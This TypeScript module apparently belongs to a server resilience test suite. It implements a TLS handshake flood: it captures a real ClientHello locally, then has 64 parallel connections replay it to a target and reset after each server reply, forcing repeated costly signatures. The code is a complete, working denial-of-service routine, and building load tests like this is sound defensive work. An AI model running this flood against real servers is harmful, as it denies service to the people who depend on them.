/** TLS handshakes that cost the server a signature and the attacker nothing: the same first message again and again. */
import { once } from "node:events";
import { type AddressInfo, createServer, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import type { Attack, AttackTarget } from "./attack.js";
import { ended, open } from "./sockets.js";

const connections = 64;

/** Returns the first bytes that a TLS client sends. */
async function clientHello(): Promise<Buffer> {
  const server = createServer().listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  const client = connectTls({ host: "127.0.0.1", port }).on("error", () => {});
  const [socket] = (await once(server, "connection")) as [Socket];
  const [hello] = (await once(socket, "data")) as [Buffer];
  client.destroy();
  socket.destroy();
  server.close();
  return hello;
}

async function greetAgainAndAgain(target: AttackTarget, hello: Buffer): Promise<void> {
  while (!target.signal.aborted) {
    const socket = open({ ...target, ca: undefined });
    socket.write(hello);
    // The server's part of the handshake is done.
    socket.once("data", () => socket.resetAndDestroy());
    await ended(socket);
  }
}

export const handshakes: Attack = {
  name: "tls-handshakes",
  what: `${connections} connections repeat the start of a TLS handshake and leave after the server's answer`,
  secure: true,
  // Every tenth round of the other client is a new connection, which waits for handshakes of the flood.
  waitMillisecondsMax: 200,
  run: async (target) => {
    const hello = await clientHello();
    await Promise.all(Array.from({ length: connections }, () => greetAgainAndAgain(target, hello)));
  },
};
